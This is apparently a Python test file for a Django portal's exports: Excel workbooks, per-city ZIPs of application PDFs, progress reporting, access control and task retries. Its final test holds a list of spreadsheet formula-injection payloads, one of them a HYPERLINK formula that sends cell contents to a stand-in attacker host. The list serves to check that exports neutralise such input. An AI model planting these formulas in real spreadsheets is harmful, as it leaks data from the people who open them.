"""Exports: the workbook read back with openpyxl, the ZIP by city, progress, and who may export."""

import io
import itertools
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from applications.models import Package
from portal.audit.models import AuditAction, AuditEvent
from portal.spreadsheets import FORMULA_STARTS
from review.models import ExportJob

from .conftest import expert_pool
from .scoring_helpers import give_scores


def export(client, call, kind, capture):
    with capture(execute=True):
        response = client.post(reverse("province:start_export", args=[call.pk]), {"kind": kind})
    assert response.status_code == 302
    job = ExportJob.objects.get(call=call, kind=kind)
    assert job.state == ExportJob.State.READY, job.error
    return job


def ready_packages(applications):
    """A rendered package for each application; its PDF is "%PDF-1.7 " and the application's name."""
    for index, application in enumerate(applications):
        package = Package.objects.create(
            kind=Package.Kind.APPLICATION,
            application=application,
            version_number=1,
            input_hash=f"h{index}",
            verify_code=f"V{index}",
            state=Package.State.READY,
        )
        package.file.save(f"p{index}.pdf", ContentFile(b"%PDF-1.7 " + application.name.encode()))


@pytest.fixture
def scored(board_rows):
    experts = expert_pool(3)
    for application, totals in zip(
        board_rows.values(), ([80, 85, 90], [70, 71, 72], [60, 61, 62], [90, 95, 99]), strict=True
    ):
        give_scores(application, experts, totals)
    return board_rows


def test_workbook_has_three_sheets_in_chinese_with_numbers_as_numbers(
    client, people, scored, django_capture_on_commit_callbacks
):
    call = scored["pizhou"].call
    client.force_login(people["province"])
    job = export(client, call, ExportJob.Kind.WORKBOOK, django_capture_on_commit_callbacks)
    assert job.progress == 100 and job.rows == 4
    response = client.get(reverse("province:download_export", args=[job.pk]))
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    assert workbook.sheetnames == ["申报信息", "专家评分", "排名"]

    applications = list(workbook["申报信息"].iter_rows(values_only=True))
    header = applications[0]
    assert header[:3] == ("申报编号", "名称", "设区市")
    assert "基本信息：众创社区名称" in header and "场地情况：规划面积（万平方米）" in header
    assert any(h.startswith("计划1.") and "2027年" in h for h in header)
    assert len(applications) == 1 + 4  # one row per application
    area = header.index("场地情况：规划面积（万平方米）")
    assert all(isinstance(row[area], int | float) for row in applications[1:])
    assert {row[1] for row in applications[1:]} == {a.name for a in scored.values()}

    scores = list(workbook["专家评分"].iter_rows(values_only=True))
    assert scores[0][:4] == ("申报编号", "名称", "设区市", "评审专家") and "加权总分" in scores[0]
    assert len(scores) == 1 + 4 * 3
    total = scores[0].index("加权总分")
    assert sorted(row[total] for row in scores[1:] if row[1] == scored["pizhou"].name) == [90, 95, 99]

    ranking = list(workbook["排名"].iter_rows(values_only=True))
    assert ranking[0][0] == "名次" and ranking[1][2] == scored["pizhou"].name
    assert ranking[1][6] == pytest.approx(94.67)  # (90 + 95 + 99) / 3: fewer than 5, so the mean
    assert [row[0] for row in ranking[1:]] == [1, 2, 3, 4]
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT).count() == 1
    assert AuditEvent.objects.filter(action=AuditAction.DOWNLOAD, verb__contains="Excel").count() == 1


def test_packages_zip_has_a_folder_per_city(client, people, scored, django_capture_on_commit_callbacks):
    call = scored["pizhou"].call
    ready_packages(scored.values())
    client.force_login(people["province"])
    job = export(client, call, ExportJob.Kind.PACKAGES, django_capture_on_commit_callbacks)
    response = client.get(reverse("province:download_export", args=[job.pk]))
    names = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))).namelist()
    assert f"徐州市/01-{scored['pizhou'].name}.pdf" in names
    assert sorted(n for n in names if n.startswith("南京市/")) == [
        f"南京市/01-{scored['jiangning_a'].name}.pdf",
        f"南京市/02-{scored['jiangning_b'].name}.pdf",
    ]


def test_progress_is_reported_while_the_job_runs(client, people, scored):
    call = scored["pizhou"].call
    job = ExportJob.objects.create(call=call, kind=ExportJob.Kind.WORKBOOK, created_by=people["province"], progress=40)
    client.force_login(people["province"])
    status = client.get(reverse("province:export", args=[job.pk]), headers={"X-Requested-With": "fetch"}).json()
    assert status == {"state": "queued", "label": "排队中", "progress": 40}


def test_only_the_managing_office_may_export_or_download(client, people, scored):
    call = scored["pizhou"].call
    job = ExportJob.objects.create(call=call, kind=ExportJob.Kind.WORKBOOK, created_by=people["province"])
    urls = [
        ("post", reverse("province:start_export", args=[call.pk])),
        ("get", reverse("province:exports", args=[call.pk])),
        ("get", reverse("province:export", args=[job.pk])),
        ("get", reverse("province:download_export", args=[job.pk])),
    ]
    for who in ("clerk", "head", "city", "other_city", "expert", "sysadmin"):
        client.force_login(people[who])
        for method, url in urls:
            assert getattr(client, method)(url, {"kind": "workbook"}).status_code == 404, (who, url)
    assert ExportJob.objects.count() == 1
    assert AuditEvent.objects.filter(action=AuditAction.PERMISSION_DENIED).count() == 6 * 4


def test_an_export_asked_for_while_the_broker_is_down_waits_and_is_sent_again(
    client, people, scored, django_capture_on_commit_callbacks
):
    from review.tasks import requeue_exports

    from ..broker import broker

    call = scored["pizhou"].call
    client.force_login(people["province"])
    url = reverse("province:start_export", args=[call.pk])
    with broker("redis://127.0.0.1:1/0"), django_capture_on_commit_callbacks(execute=True):  # nothing listens there
        response = client.post(url, {"kind": "workbook"}, follow=True)
    assert response.status_code == 200 and "排队中" in response.content.decode()
    job = ExportJob.objects.get(call=call)
    assert job.state == ExportJob.State.QUEUED
    assert requeue_exports() == 0  # the publish of a live request is given its grace period
    # the beat's next round, the broker back (in-process here), publishes it again
    assert requeue_exports(now=timezone.now() + timedelta(minutes=1)) == 1
    job.refresh_from_db()
    assert job.state == ExportJob.State.READY and job.rows == 4


def test_an_export_delivered_twice_is_written_once(client, people, scored, django_capture_on_commit_callbacks):
    """Redis may deliver a task again (acks_late): the second run leaves the finished file alone."""
    from review.tasks import run_export

    client.force_login(people["province"])
    job = export(client, scored["pizhou"].call, ExportJob.Kind.WORKBOOK, django_capture_on_commit_callbacks)
    path = Path(job.file.path)
    written = path.stat().st_mtime_ns
    assert run_export.apply(args=[job.pk]).get() == job.file.name
    assert path.stat().st_mtime_ns == written
    assert ExportJob.objects.get(pk=job.pk).state == ExportJob.State.READY


def test_the_workbook_opens_ready_to_read_and_names_what_was_computed(
    client, people, scored, django_capture_on_commit_callbacks
):
    """Column widths, a header that stays in view and filters on every sheet; experts by name and unit; the
    score header says what was applied: the call asks for the trimmed mean, but three experts scored."""
    call = scored["pizhou"].call
    call.aggregation = "trimmed_mean"
    call.save()
    client.force_login(people["province"])
    job = export(client, call, ExportJob.Kind.WORKBOOK, django_capture_on_commit_callbacks)
    response = client.get(reverse("province:download_export", args=[job.pk]))
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))

    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
        assert sheet.column_dimensions["B"].width >= 12

    scores = list(workbook["专家评分"].iter_rows(values_only=True))
    expert, unit = scores[0].index("评审专家"), scores[0].index("专家工作单位")
    assignment = scored["pizhou"].assignments.select_related("expert").first()
    row = next(r for r in scores[1:] if r[expert] == assignment.expert.full_name)
    assert row[unit] == assignment.expert.memberships.get().unit.name  # 外省大学…, not an account name
    assert not any(r[expert].startswith("user") for r in scores[1:])

    ranking = list(workbook["排名"].iter_rows(values_only=True))
    assert ranking[0][6] == "汇总得分（算术平均）" and ranking[0][7] == "汇总方式"
    assert {r[7] for r in ranking[1:]} == {"算术平均"}
    assert "去掉一个最高分" not in "".join(map(str, ranking[0]))


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1")


def test_no_cell_of_the_workbook_is_a_formula_whatever_the_applicants_and_experts_typed(
    client, people, scored, django_capture_on_commit_callbacks
):
    """Every text column an applicant, expert or administrator fills reaches the workbook as text."""
    from applications.models import Application, ApplicationPart
    from review.models import Assignment, Criterion

    hostile = itertools.cycle(FORMULAS)
    for application in scored.values():
        Application.objects.filter(pk=application.pk).update(name=next(hostile))
        for part in ApplicationPart.objects.filter(application=application):
            part.data = {key: next(hostile) if isinstance(value, str) else value for key, value in part.data.items()}
            part.save(update_fields=["data"])
    for assignment in Assignment.objects.filter(application__in=scored.values()):
        Assignment.objects.filter(pk=assignment.pk).update(comment=next(hostile))
    Criterion.objects.filter(call=scored["pizhou"].call).update(name=next(hostile))
    client.force_login(people["province"])
    job = export(client, scored["pizhou"].call, ExportJob.Kind.WORKBOOK, django_capture_on_commit_callbacks)
    workbook = load_workbook(default_storage.path(job.file.name))
    text = [c for sheet in workbook for line in sheet.iter_rows() for c in line if isinstance(c.value, str)]
    assert not [c.coordinate for sheet in workbook for line in sheet.iter_rows() for c in line if c.data_type == "f"]
    assert not [c.value for c in text if c.value.startswith(FORMULA_STARTS)]
    defused = {c.value for c in text if c.value.startswith("'")}
    assert {"'" + formula for formula in FORMULAS} <= defused  # names, fields, comments and criteria all seen
